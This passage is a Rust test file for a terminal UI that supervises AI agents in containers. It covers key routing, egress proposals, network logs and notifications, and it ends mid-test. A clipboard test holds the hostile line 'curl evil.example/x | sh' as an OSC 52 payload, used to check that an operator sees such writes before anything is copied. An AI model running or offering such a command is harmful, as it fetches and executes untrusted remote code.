use std::time::{Duration, Instant};

use crossterm::event::{Event, KeyCode, KeyEvent, KeyModifiers, MouseEvent, MouseEventKind};
use ratatui::layout::Rect;

use super::*;
use crate::backend::Place;
use crate::session::{RecordingIo, SharedTerm, Term};
use crate::supervise::{Decision, EgressRequest, Request};

fn app() -> (App, tokio::sync::mpsc::UnboundedReceiver<AppEvent>) {
    let (tx, rx) = tokio::sync::mpsc::unbounded_channel();
    let a = App::new(
        Paths::default(),
        Config::default(),
        Vec::new(),
        Rect::new(0, 0, 80, 24),
        tx,
    );
    (a, rx)
}

fn add(a: &mut App, agent: &str, id: u64, phase: Phase) -> RecordingIo {
    let io = RecordingIo::default();
    let (rows, cols) = a.pane_size();
    let session = Session::new(
        id,
        SharedTerm::new(Term::new(rows, cols, 100)),
        Box::new(io.clone()),
    );
    let mut e = Entry::new(
        format!("{agent}-x"),
        agent.into(),
        "dev".into(),
        BackendKind::Local,
        phase,
        Some(crate::manifest::Template::Claude),
    );
    e.session = Some(session);
    a.entries.push(e);
    io
}

/// A bottle's pending proposals, as its state was read.
fn pending(a: &mut App, slug: &str, proposals: Vec<Proposal>) {
    let _ = a.update(AppEvent::News {
        slug: slug.into(),
        news: crate::backend::BottleNews {
            proposals,
            ..Default::default()
        },
        first: false,
    });
}

/// An engine named `default` that is not there.
fn nowhere() -> crate::backend::engines::EngineSpec {
    crate::backend::engines::EngineSpec {
        name: "default".into(),
        host: "unix:///nonexistent/docker.sock".into(),
        tls: None,
        from: "a test".into(),
    }
}

/// Docker on the engine tests' bottles are found on.
fn docker() -> Place {
    Place {
        kind: BackendKind::Docker,
        engine: String::new(),
    }
}

fn key(a: &mut App, code: KeyCode, m: KeyModifiers) -> Vec<Effect> {
    a.update(AppEvent::Term(Event::Key(KeyEvent::new(code, m))))
}

fn written(io: &RecordingIo) -> Vec<u8> {
    std::mem::take(&mut *io.written.lock().unwrap())
}

#[test]
fn keys_reach_the_focused_program_and_the_prefix_twice_passes_through() {
    let (mut a, _rx) = app();
    let io = add(&mut a, "alpha", 1, Phase::Running);
    key(&mut a, KeyCode::Char('l'), KeyModifiers::NONE);
    key(&mut a, KeyCode::Char('s'), KeyModifiers::NONE);
    key(&mut a, KeyCode::Enter, KeyModifiers::NONE);
    key(&mut a, KeyCode::Char('p'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Up, KeyModifiers::NONE);
    assert_eq!(written(&io), b"ls\r\x10\x1b[A");
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    assert!(a.armed);
    assert!(written(&io).is_empty(), "the prefix alone is bb's");
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    assert_eq!(written(&io), b"\x02");
    assert!(!a.armed);
}

#[test]
fn application_cursor_mode_is_honoured() {
    let (mut a, _rx) = app();
    let io = add(&mut a, "alpha", 1, Phase::Running);
    a.entries[0]
        .session
        .as_ref()
        .unwrap()
        .term
        .feed(b"\x1b[?1h");
    key(&mut a, KeyCode::Up, KeyModifiers::NONE);
    assert_eq!(written(&io), b"\x1bOA");
}

#[test]
fn switching_and_unread_marks() {
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Running);
    add(&mut a, "beta", 2, Phase::Running);
    let _ = a.update(AppEvent::Session(SessionEvent::Output(2)));
    assert!(a.entries[1].unread);
    assert!(!a.entries[0].unread, "the focused pane is being looked at");
    key(&mut a, KeyCode::Char('2'), KeyModifiers::ALT);
    assert_eq!(a.focus, 1);
    assert!(!a.entries[1].unread);
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Right, KeyModifiers::NONE);
    assert_eq!(a.focus, 0, "next wraps around");
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('9'), KeyModifiers::NONE);
    assert_eq!(a.focus, 0);
    assert!(a.status.as_ref().unwrap().error);
}

#[test]
fn resizes_are_debounced_and_same_sizes_skipped() {
    let (mut a, _rx) = app();
    let io = add(&mut a, "alpha", 1, Phase::Running);
    let _ = a.update(AppEvent::Term(Event::Resize(100, 30)));
    let _ = a.update(AppEvent::Term(Event::Resize(120, 40)));
    assert!(
        io.sizes.lock().unwrap().is_empty(),
        "nothing before the debounce"
    );
    a.on_tick(Instant::now() + RESIZE_DEBOUNCE * 2);
    assert_eq!(*io.sizes.lock().unwrap(), vec![(37, 90)]);
    let _ = a.update(AppEvent::Term(Event::Resize(120, 40)));
    a.on_tick(Instant::now() + RESIZE_DEBOUNCE * 2);
    assert_eq!(io.sizes.lock().unwrap().len(), 1, "same size: no resize");
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('s'), KeyModifiers::NONE);
    a.on_tick(Instant::now() + RESIZE_DEBOUNCE * 2);
    assert_eq!(
        io.sizes.lock().unwrap().last(),
        Some(&(37, 120)),
        "sidebar hidden"
    );
}

#[test]
fn pastes_are_bracketed_when_the_program_asks() {
    let (mut a, _rx) = app();
    let io = add(&mut a, "alpha", 1, Phase::Running);
    let _ = a.update(AppEvent::Term(Event::Paste("a\nb".into())));
    assert_eq!(written(&io), b"a\rb");
    a.entries[0]
        .session
        .as_ref()
        .unwrap()
        .term
        .feed(b"\x1b[?2004h");
    let _ = a.update(AppEvent::Term(Event::Paste("a\nb".into())));
    assert_eq!(written(&io), b"\x1b[200~a\rb\x1b[201~");
}

#[test]
fn the_wheel_scrolls_history_or_goes_to_programs_that_want_the_mouse() {
    let (mut a, _rx) = app();
    let io = add(&mut a, "alpha", 1, Phase::Running);
    let term = a.entries[0].session.as_ref().unwrap().term.clone();
    for i in 0..100 {
        term.feed(format!("line {i}\r\n").as_bytes());
    }
    let wheel = |kind| {
        AppEvent::Term(Event::Mouse(MouseEvent {
            kind,
            column: 40,
            row: 10,
            modifiers: KeyModifiers::NONE,
        }))
    };
    let _ = a.update(wheel(MouseEventKind::ScrollUp));
    assert_eq!(term.lock().scroll_offset(), 3);
    assert!(written(&io).is_empty());
    term.feed(b"\x1b[?1000h\x1b[?1006h");
    let _ = a.update(wheel(MouseEventKind::ScrollUp));
    assert_eq!(written(&io), b"\x1b[<64;17;10M", "relative to the pane");
    term.feed(b"\x1b[?1000l\x1b[?1049h");
    let _ = a.update(wheel(MouseEventKind::ScrollDown));
    assert_eq!(
        written(&io),
        b"\x1b[B\x1b[B\x1b[B",
        "alternate screen: arrows"
    );
}

#[test]
fn exited_panes_offer_stop_and_typing_resumes_the_live_view() {
    let (mut a, _rx) = app();
    let io = add(&mut a, "alpha", 1, Phase::Running);
    let term = a.entries[0].session.as_ref().unwrap().term.clone();
    for i in 0..100 {
        term.feed(format!("{i}\r\n").as_bytes());
    }
    term.lock().scroll_by(10);
    key(&mut a, KeyCode::Char('z'), KeyModifiers::NONE);
    assert_eq!(term.lock().scroll_offset(), 0);
    assert_eq!(written(&io), b"z");
    let _ = a.update(AppEvent::Session(SessionEvent::Exited(1, Some(2))));
    assert_eq!(a.entries[0].phase, Phase::Exited(Some(2)));
    key(&mut a, KeyCode::Char('x'), KeyModifiers::NONE);
    assert!(matches!(a.modal, Some(Modal::ConfirmStop { .. })));
    key(&mut a, KeyCode::Esc, KeyModifiers::NONE);
    assert!(a.modal.is_none());
    assert!(written(&io).is_empty(), "an ended program gets nothing");
}

#[test]
fn clicking_an_agent_in_the_sidebar_focuses_it() {
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Running);
    add(&mut a, "beta", 2, Phase::Running);
    let agents = a.layout().agents;
    let click = |row| {
        AppEvent::Term(Event::Mouse(MouseEvent {
            kind: MouseEventKind::Down(crossterm::event::MouseButton::Left),
            column: agents.x + 1,
            row,
            modifiers: KeyModifiers::NONE,
        }))
    };
    // The title row, then two rows per agent.
    let _ = a.update(click(agents.y + 3));
    assert_eq!(a.focus, 1, "beta's state line");
    let _ = a.update(click(agents.y + 1));
    assert_eq!(a.focus, 0, "alpha's name line");
    let _ = a.update(click(agents.y + 5));
    assert_eq!(a.focus, 0, "below the last agent: nothing");
}

#[test]
fn approving_and_rejecting_proposals_asks_for_decisions_to_be_recorded() {
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Running);
    let p = |id: &str| crate::supervise::sample(id, "alpha");
    a.backends = vec![std::sync::Arc::new(
        crate::backend::local::LocalBackend::new("true".into()),
    )];
    pending(&mut a, "alpha-x", vec![p("1"), p("2")]);
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('p'), KeyModifiers::NONE);
    assert!(matches!(a.modal, Some(Modal::Proposal(_))));
    let effects = key(&mut a, KeyCode::Char('a'), KeyModifiers::NONE);
    // The local backend cannot change egress live: record, nothing else.
    assert!(
        matches!(
            effects.as_slice(),
            [Effect::Decide {
                proposal,
                decision: Decision::Approved { .. },
                apply: Apply::Nothing,
                ..
            }] if proposal.id == "1"
        ),
        "one decision to record"
    );
    assert_eq!(a.proposals.len(), 1);
    let _ = a.update(AppEvent::Decided {
        outcome: Ok("approved: alpha egress pypi.org".into()),
    });
    assert_eq!(status(&a), "approved: alpha egress pypi.org");
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('p'), KeyModifiers::NONE);
    key(&mut a, KeyCode::Char('r'), KeyModifiers::NONE);
    for c in "no".chars() {
        key(&mut a, KeyCode::Char(c), KeyModifiers::NONE);
    }
    let effects = key(&mut a, KeyCode::Enter, KeyModifiers::NONE);
    assert!(a.proposals.is_empty());
    assert!(matches!(
        effects.as_slice(),
        [Effect::Decide {
            decision: Decision::Rejected { reason },
            ..
        }] if reason == "no"
    ));
}

#[test]
fn the_preflight_is_prepared_off_the_ui_thread() {
    let (mut a, _rx) = app();
    a.usable = vec![Place {
        kind: BackendKind::Docker,
        engine: "default".into(),
    }];
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("bottles")).unwrap();
    std::fs::create_dir_all(dir.path().join("agents")).unwrap();
    std::fs::write(dir.path().join("bottles/q.md"), "---\n---\n").unwrap();
    std::fs::write(dir.path().join("agents/q.md"), "---\nbottle: q\n---\n").unwrap();
    let m = crate::manifest::load(&crate::manifest::Layout {
        home: dir.path().into(),
        repo: None,
    });
    let effects = key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    assert!(effects.is_empty());
    let effects = key(&mut a, KeyCode::Char('n'), KeyModifiers::NONE);
    assert!(matches!(effects.as_slice(), [Effect::LoadManifest(_)]));
    let _ = a.update(AppEvent::Manifest(Box::new(m.clone())));
    assert!(matches!(a.modal, Some(Modal::Picker(_))));
    // Choosing the agent asks for the preflight; the workspace is not
    // measured here, and no modal waits on it.
    let effects = key(&mut a, KeyCode::Enter, KeyModifiers::NONE);
    assert!(
        matches!(effects.as_slice(), [Effect::Preflight(job)] if job.agent == "q"),
        "the preflight is an effect"
    );
    assert!(a.modal.is_none());
    let (agent, bottle) = m.agent("q").unwrap();
    let plan = crate::plan::resolve(
        agent,
        bottle,
        &crate::plan::FixedHost::default(),
        BackendKind::Docker,
        "x",
    );
    a.dirty = false;
    let _ = a.update(AppEvent::Preflight(Ok(Box::new(
        crate::tui::event::PreflightReady {
            plan,
            lines: vec!["agent : q".into()],
        },
    ))));
    assert!(matches!(a.modal, Some(Modal::Preflight(_))));
    assert!(a.dirty, "the preflight is drawn when it arrives");
    let _ = a.update(AppEvent::Preflight(Err("too big".into())));
    assert_eq!(a.status.as_ref().unwrap().text, "too big");
}

/// An app with one backend that has not answered yet.
fn app_with_backend() -> (App, tokio::sync::mpsc::UnboundedReceiver<AppEvent>) {
    let (mut a, rx) = app();
    a.backends = vec![std::sync::Arc::new(
        crate::backend::local::LocalBackend::new("true".into()),
    )];
    a.picker_manifest = Some(crate::manifest::Manifest::default());
    (a, rx)
}

fn status(a: &App) -> String {
    a.status
        .as_ref()
        .map(|s| s.text.clone())
        .unwrap_or_default()
}

#[test]
fn an_agent_chosen_before_the_backends_answer_goes_on_once_they_do() {
    let (mut a, _rx) = app_with_backend();
    a.choose_agent("q".into());
    assert!(
        status(&a).contains("checking which backends"),
        "not refused as if no backend could: {}",
        status(&a)
    );
    assert!(a.effects.is_empty());
    let effects = a.update(AppEvent::Usable(vec![Place {
        kind: BackendKind::Local,
        engine: String::new(),
    }]));
    assert!(
        matches!(effects.as_slice(), [Effect::Preflight(job)] if job.agent == "q"),
        "the choice goes on"
    );
    // Once they have answered, none usable is said as it is.
    a.usable.clear();
    a.choose_agent("q".into());
    assert!(
        status(&a).contains("no backend can run bottles now"),
        "{}",
        status(&a)
    );
    // A choice the operator moved on from is dropped.
    let (mut a, _rx) = app_with_backend();
    a.choose_agent("q".into());
    a.modal = Some(Modal::Help { scroll: 0 });
    let effects = a.update(AppEvent::Usable(vec![Place {
        kind: BackendKind::Local,
        engine: String::new(),
    }]));
    assert!(effects.is_empty());
    assert!(matches!(a.modal, Some(Modal::Help { .. })));
}

#[test]
fn a_credentialed_route_is_not_approved_before_a_token_is_picked() {
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Running);
    let p = Proposal {
        id: "c1".into(),
        slug: "alpha-x".into(),
        agent: "alpha".into(),
        created_at: "1".into(),
        reason: "needs the API".into(),
        request: Request::Credentialed {
            host: "api.example.com".into(),
            token_ref: None,
        },
    };
    pending(&mut a, "alpha-x", vec![p.clone()]);
    a.decide(
        &p,
        Decision::Approved {
            request: p.request.clone(),
            note: None,
        },
    );
    assert_eq!(a.proposals.len(), 1, "still pending");
    assert!(a
        .status
        .as_ref()
        .unwrap()
        .text
        .contains("pick the token first"));
}

#[test]
fn asked_values_are_collected_before_launch() {
    use crate::tui::modal::AskModal;
    let (mut a, _rx) = app();
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("bottles")).unwrap();
    std::fs::create_dir_all(dir.path().join("agents")).unwrap();
    std::fs::write(
        dir.path().join("bottles/q.md"),
        "---\nenv:\n  NAME: \"?Your name\"\n  TEAM: \"?Your team\"\n---\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("agents/q.md"), "---\nbottle: q\n---\n").unwrap();
    let m = crate::manifest::load(&crate::manifest::Layout {
        home: dir.path().into(),
        repo: None,
    });
    let (agent, bottle) = m.agent("q").unwrap();
    let plan = crate::plan::resolve(
        agent,
        bottle,
        &crate::plan::FixedHost::default(),
        BackendKind::Docker,
        "x",
    );
    let questions = plan.questions();
    a.modal = Some(Modal::Ask(Box::new(AskModal {
        plan,
        questions,
        input: String::new(),
    })));
    for c in "Ada".chars() {
        key(&mut a, KeyCode::Char(c), KeyModifiers::NONE);
    }
    key(&mut a, KeyCode::Enter, KeyModifiers::NONE);
    let Some(Modal::Ask(ask)) = &a.modal else {
        panic!("the second question is asked")
    };
    assert_eq!(ask.questions[0].0, "TEAM");
    assert!(
        ask.plan.questions().iter().all(|(n, _)| n != "NAME"),
        "NAME was answered"
    );
    key(&mut a, KeyCode::Esc, KeyModifiers::NONE);
    assert!(a.modal.is_none());
    assert_eq!(a.status.as_ref().unwrap().text, "launch cancelled");
}

fn found(slug: &str, state: crate::backend::BottleState) -> ActiveBottle {
    ActiveBottle {
        slug: slug.into(),
        agent: slug.split('-').next().unwrap_or(slug).into(),
        bottle: "dev".into(),
        backend: BackendKind::Docker,
        engine: String::new(),
        started_at: None,
        state,
        sidecars: vec![],
        down: None,
        template: None,
    }
}

#[test]
fn bottles_are_kept_up_to_date_from_the_backend() {
    use crate::backend::BottleState::{AgentDown, BundleDown, Running};
    let (mut a, _rx) = app();
    let _ = a.update(AppEvent::Discovered(
        docker(),
        vec![found("alpha-1", Running), found("beta-1", Running)],
    ));
    assert_eq!(a.entries.len(), 2);
    assert!(a.entries.iter().all(|e| e.phase == Phase::Detached));
    // The agent dies in one, the bundle in the other.
    let _ = a.update(AppEvent::Discovered(
        docker(),
        vec![found("alpha-1", AgentDown), found("beta-1", BundleDown)],
    ));
    assert_eq!(a.entries[0].phase, Phase::Exited(None));
    assert_eq!(
        a.entries[1].active.as_ref().map(|b| b.state),
        Some(BundleDown)
    );
    // Stopped elsewhere: its row goes.
    let _ = a.update(AppEvent::Discovered(
        docker(),
        vec![found("beta-1", BundleDown)],
    ));
    assert_eq!(a.entries.len(), 1);
    assert_eq!(a.entries[0].slug, "beta-1");
    // Stopped here: a listing from before does not bring it back.
    let _ = a.update(AppEvent::Bottle(
        "beta-1".into(),
        crate::tui::event::BottleMsg::Stopped(None),
    ));
    let _ = a.update(AppEvent::Discovered(
        docker(),
        vec![found("beta-1", Running)],
    ));
    assert!(a.entries.is_empty());
}

#[test]
fn x_on_a_bottle_that_failed_asks_to_stop_it_and_dismisses_only_failed_launches() {
    use crate::backend::BottleState::AgentDown;
    let (mut a, _rx) = app();
    let _ = a.update(AppEvent::Discovered(
        docker(),
        vec![found("alpha-1", AgentDown)],
    ));
    a.entries[0].phase = Phase::Failed("the container is gone".into());
    key(&mut a, KeyCode::Char('x'), KeyModifiers::NONE);
    assert!(matches!(a.modal, Some(Modal::ConfirmStop { .. })));
    a.modal = None;
    a.entries[0].active = None;
    key(&mut a, KeyCode::Char('x'), KeyModifiers::NONE);
    assert!(a.entries.is_empty(), "a failed launch is dismissed");
}

#[test]
fn the_loop_is_told_when_timed_work_is_due_and_idle_output_elsewhere_draws_once() {
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Running);
    add(&mut a, "beta", 2, Phase::Running);
    a.dirty = false;
    assert_eq!(a.next_due(), None, "nothing timed: the loop sleeps");
    let _ = a.update(AppEvent::Term(Event::Resize(100, 30)));
    let due = a.next_due().unwrap();
    assert!(due > Instant::now() && due <= Instant::now() + RESIZE_DEBOUNCE);

    // beta is not focused: its first output marks its row, later output
    // changes nothing on screen.
    a.dirty = false;
    let _ = a.update(AppEvent::Session(SessionEvent::Output(2)));
    assert!(a.dirty && a.entries[1].unread);
    a.dirty = false;
    let _ = a.update(AppEvent::Session(SessionEvent::Output(2)));
    assert!(!a.needs_draw());
    let _ = a.update(AppEvent::Session(SessionEvent::Output(1)));
    assert!(a.pane_changed, "the focused pane's output is drawn");
}

/// Output from session `id`, as its reader reports it.
fn output(a: &mut App, id: u64, bytes: &[u8]) -> Vec<Effect> {
    let i = a
        .entries
        .iter()
        .position(|e| e.session.as_ref().is_some_and(|s| s.id == id))
        .unwrap();
    a.entries[i].session.as_ref().unwrap().term.feed(bytes);
    a.update(AppEvent::Session(SessionEvent::Output(id)))
}

fn outer(effects: &[Effect]) -> Vec<u8> {
    effects
        .iter()
        .filter_map(|e| match e {
            Effect::Outer(b) => Some(b.clone()),
            _ => None,
        })
        .flatten()
        .collect()
}

#[test]
fn an_agent_that_finishes_a_turn_elsewhere_waits_calls_you_and_c_b_w_goes_there() {
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Running);
    add(&mut a, "beta", 2, Phase::Running);
    // beta works: its indicator is up, then its reply streams.
    assert!(outer(&output(
        &mut a,
        2,
        b"\x1b[20;1H* Thinking (esc to interrupt)"
    ))
    .is_empty());
    assert_eq!(a.entries[1].state(), AgentState::Working);
    output(&mut a, 2, b"\x1b[2J\x1b[1;1HHello there\r\n> ");
    assert_eq!(a.entries[1].state(), AgentState::Working, "still streaming");
    assert!(a.next_due().is_some(), "the loop wakes when the burst ends");
    a.entries[1].activity.backdate(Duration::from_secs(2));
    a.on_tick(Instant::now());
    let effects = std::mem::take(&mut a.effects);
    assert_eq!(a.entries[1].state(), AgentState::Waiting);
    assert!(a.entries[1].attention);
    let bytes = String::from_utf8(outer(&effects)).unwrap();
    assert!(bytes.starts_with('\x07'), "{bytes:?}");
    assert!(
        bytes.contains("\x1b]777;notify;bb: beta;is waiting for you\x1b\\"),
        "{bytes:?}"
    );
    assert!(
        bytes.contains("\x1b]9;bb: beta is waiting for you"),
        "{bytes:?}"
    );
    // alpha, focused, never rang; C-b w goes to beta and clears its mark.
    assert_eq!(a.entries[0].state(), AgentState::Idle);
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('w'), KeyModifiers::NONE);
    assert_eq!(a.focus, 1);
    assert!(!a.entries[1].attention);
    // Typing to it ends the wait.
    key(&mut a, KeyCode::Char('y'), KeyModifiers::NONE);
    assert_eq!(a.entries[1].state(), AgentState::Idle);
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('w'), KeyModifiers::NONE);
    assert_eq!(a.focus, 1, "nobody waits");
}

#[test]
fn a_program_notification_or_a_proposal_calls_you_as_configured() {
    let (mut a, _rx) = app();
    a.config.attention.bell = false;
    add(&mut a, "alpha", 1, Phase::Running);
    add(&mut a, "beta", 2, Phase::Running);
    let effects = output(&mut a, 2, b"\x1b]9;Approve the edit?\x07");
    let bytes = String::from_utf8(outer(&effects)).unwrap();
    assert!(!bytes.starts_with('\x07'), "the bell is off: {bytes:?}");
    assert!(
        bytes.contains("beta;is waiting for you: Approve the edit?"),
        "{bytes:?}"
    );
    a.config.attention.notify = false;
    let p = crate::supervise::sample("1", "alpha");
    a.set_focus(1);
    let effects = a.update(AppEvent::News {
        slug: "alpha-x".into(),
        news: crate::backend::BottleNews {
            proposals: vec![p],
            ..Default::default()
        },
        first: false,
    });
    assert_eq!(a.entries[0].state(), AgentState::Blocked);
    assert!(a.entries[0].attention);
    assert!(outer(&effects).is_empty(), "both calls are off");
}

#[test]
fn the_network_view_watches_the_log_and_a_refusal_becomes_a_proposal_to_approve() {
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Running);
    let refused: crate::audit::Record = serde_json::from_str::<crate::audit::AuditRecord>(
        r#"{"time_ms":1,"client":"c","host":"pypi.org","method":"GET","path":"/simple/","decision":"blocked","rule":"host-not-allowed"}"#,
    )
    .unwrap()
    .into_owned();
    let news = |records: Vec<crate::audit::Record>, first| AppEvent::News {
        slug: "alpha-x".into(),
        news: crate::backend::BottleNews {
            audit: records
                .into_iter()
                .map(crate::audit::Line::Record)
                .collect(),
            ..Default::default()
        },
        first,
    };
    // The log as first read is history: no refusal marks the row.
    let _ = a.update(news(vec![refused.clone()], true));
    assert_eq!(a.entries[0].refused, 0);
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    let effects = key(&mut a, KeyCode::Char('t'), KeyModifiers::NONE);
    assert!(
        effects.is_empty(),
        "the view shows what was read; nothing to ask"
    );
    let Some(Modal::Network(v)) = &a.modal else {
        panic!("C-b t opens the network view");
    };
    assert_eq!(v.records.len(), 1, "the log so far");
    // Read while it is open: shown.
    let _ = a.update(news(vec![refused.clone()], false));
    let Some(Modal::Network(v)) = &a.modal else {
        panic!()
    };
    assert_eq!(v.records.len(), 2);
    // A bottle on an engine (whose egress can change live).
    a.backends = crate::backend::user_backends(
        std::path::Path::new("/nonexistent/bb"),
        std::path::Path::new("/nonexistent"),
        &[nowhere()],
    );
    a.entries[0].backend = BackendKind::Docker;
    a.entries[0].engine = "default".into();
    let effects = key(&mut a, KeyCode::Char('a'), KeyModifiers::NONE);
    let filed = effects
        .iter()
        .find_map(|e| match e {
            Effect::FileProposal { proposal, .. } => Some(proposal.clone()),
            _ => None,
        })
        .expect("the operator's proposal is filed in its bottle's queue");
    assert!(
        effects
            .iter()
            .any(|e| matches!(e, Effect::LoadRoutes { slug, .. } if slug == "alpha-x")),
        "its live routes are read for the approval"
    );
    assert_eq!(
        filed.request,
        Request::Egress(EgressRequest {
            host: "pypi.org".into(),
            path_allowlist: vec![]
        })
    );
    assert!(
        filed.reason.contains("no route allows this host"),
        "{}",
        filed.reason
    );
    assert!(matches!(&a.modal, Some(Modal::Proposal(p)) if p.proposal.id == filed.id));
    assert_eq!(a.entries[0].state(), AgentState::Blocked, "until decided");
    // No route list to show the change against yet: not approved blind.
    let effects = key(&mut a, KeyCode::Char('a'), KeyModifiers::NONE);
    assert!(effects.is_empty(), "nothing decided");
    assert!(
        status(&a).contains("live routes are still being read"),
        "{}",
        status(&a)
    );
    // Once the live routes are read, the change shows against them.
    let _ = a.update(AppEvent::LiveRoutes(
        "alpha-x".into(),
        Ok(vec![bb_contract::egress::RouteConfig::requested(
            "pypi.org",
            &["/packages/".into()],
        )]),
    ));
    let Some(Modal::Proposal(m)) = &a.modal else {
        panic!()
    };
    assert_eq!(
        m.diff[0],
        "! widens pypi.org: from /packages/ to every path"
    );
    let effects = key(&mut a, KeyCode::Char('a'), KeyModifiers::NONE);
    assert!(
        matches!(effects.as_slice(), [Effect::Decide { proposal, decision: Decision::Approved { .. }, .. }] if proposal.id == filed.id),
        "approved as any proposal"
    );
    // Refusals read later mark rows until their network view is opened.
    a.modal = None;
    let _ = a.update(news(vec![refused.clone(), refused], false));
    assert_eq!(a.entries[0].refused, 2);
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('t'), KeyModifiers::NONE);
    assert_eq!(a.entries[0].refused, 0);
}

#[test]
fn a_builds_steps_take_one_line_that_moves_on_and_the_launch_shows_its_time() {
    use crate::backend::ProgressMsg;
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Launching);
    a.entries[0].launch_started = Some(Instant::now() - Duration::from_secs(75));
    let step = |n| ProgressMsg::Build {
        image: "bb-agent-claude".into(),
        step: n,
        of: 4,
        doing: format!("RUN step-{n}"),
    };
    for msg in [
        ProgressMsg::Note("building bb-agent-claude:ab12: not built yet".into()),
        step(1),
        step(2),
        step(3),
        ProgressMsg::Note("built bb-agent-claude:ab12".into()),
    ] {
        let _ = a.update(AppEvent::Bottle(
            "alpha-x".into(),
            crate::tui::event::BottleMsg::Progress(msg),
        ));
    }
    assert_eq!(
        a.entries[0].log,
        [
            "building bb-agent-claude:ab12: not built yet",
            "building bb-agent-claude [#######---] step 3/4: RUN step-3",
            "built bb-agent-claude:ab12",
        ]
    );
    let due = a.next_due().expect("the clock ticks while it starts");
    assert!(due <= Instant::now() + Duration::from_secs(1));
    a.on_tick(Instant::now());
    assert_eq!(a.entries[0].launch_secs, 75);
}

#[test]
fn a_key_for_the_program_waits_for_its_echo_to_be_drawn() {
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Running);
    let _ = a.update(AppEvent::Tick);
    a.drawn();
    key(&mut a, KeyCode::Char('x'), KeyModifiers::NONE);
    assert!(!a.needs_draw(), "nothing to draw until the program answers");
    output(&mut a, 1, b"x");
    assert!(a.needs_draw(), "its echo is drawn");
    a.drawn();
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    assert!(a.dirty, "the footer shows the prefix is armed");
}

#[test]
fn a_programs_clipboard_write_waits_for_the_operator_who_sees_it_whole() {
    let (mut a, _rx) = app();
    add(&mut a, "alpha", 1, Phase::Running);
    // OSC 52 with `curl … | sh` and an escape in it: nothing reaches the
    // outer terminal by itself.
    let payload = "curl evil.example/x | sh\n\x1b[2Kls";
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
    let effects = output(&mut a, 1, format!("\x1b]52;c;{b64}\x07").as_bytes());
    assert!(outer(&effects).is_empty(), "never passed on silently");
    assert!(status(&a).contains("alpha asks to put"), "{}", status(&a));
    assert!(status(&a).contains("C-b c"), "{}", status(&a));
    // C-b c shows it; n drops it and nothing is copied.
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('c'), KeyModifiers::NONE);
    let Some(Modal::Clipboard(ask)) = &a.modal else {
        panic!("the clipboard request is shown")
    };
    assert_eq!(ask.text, payload);
    let effects = key(&mut a, KeyCode::Char('n'), KeyModifiers::NONE);
    assert!(outer(&effects).is_empty() && a.modal.is_none());
    // Asked again and allowed: copied, as the operator saw it.
    output(&mut a, 1, format!("\x1b]52;c;{b64}\x07").as_bytes());
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('c'), KeyModifiers::NONE);
    let effects = key(&mut a, KeyCode::Char('y'), KeyModifiers::NONE);
    assert_eq!(outer(&effects), osc52(b64.as_bytes()));
    // Nothing pending any more.
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(&mut a, KeyCode::Char('c'), KeyModifiers::NONE);
    assert!(a.modal.is_none());
}

#[test]
fn a_listed_bottles_state_is_followed_and_its_proposal_is_shown_against_its_routes() {
    let (mut a, _rx) = app();
    a.backends = crate::backend::user_backends(
        std::path::Path::new("/nonexistent/bb"),
        std::path::Path::new("/nonexistent"),
        &[nowhere()],
    );
    let place = Place {
        kind: BackendKind::Docker,
        engine: "default".into(),
    };
    let mut bottle = found("faker-x", crate::backend::BottleState::Running);
    bottle.engine = "default".into();
    bottle.sidecars = vec!["egress".into(), "supervise".into()];
    let effects = a.update(AppEvent::Discovered(place.clone(), vec![bottle.clone()]));
    assert!(
        effects
            .iter()
            .any(|e| matches!(e, Effect::WatchBottle { slug, .. } if slug == "faker-x")),
        "its state is followed once it is listed"
    );
    let effects = a.update(AppEvent::Discovered(place.clone(), vec![bottle]));
    assert!(
        !effects
            .iter()
            .any(|e| matches!(e, Effect::WatchBottle { .. })),
        "once"
    );
    let p = crate::supervise::sample("1", "faker");
    pending(&mut a, "faker-x", vec![p]);
    assert_eq!(a.proposals.len(), 1);
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    let effects = key(&mut a, KeyCode::Char('p'), KeyModifiers::NONE);
    assert!(
        effects
            .iter()
            .any(|e| matches!(e, Effect::LoadRoutes { slug, .. } if slug == "faker-x")),
        "its live routes are read for the approval"
    );
    // Its engine stops answering: unreachable, not gone, said once.
    let _ = a.update(AppEvent::Unreachable(place.clone(), "no answer".into()));
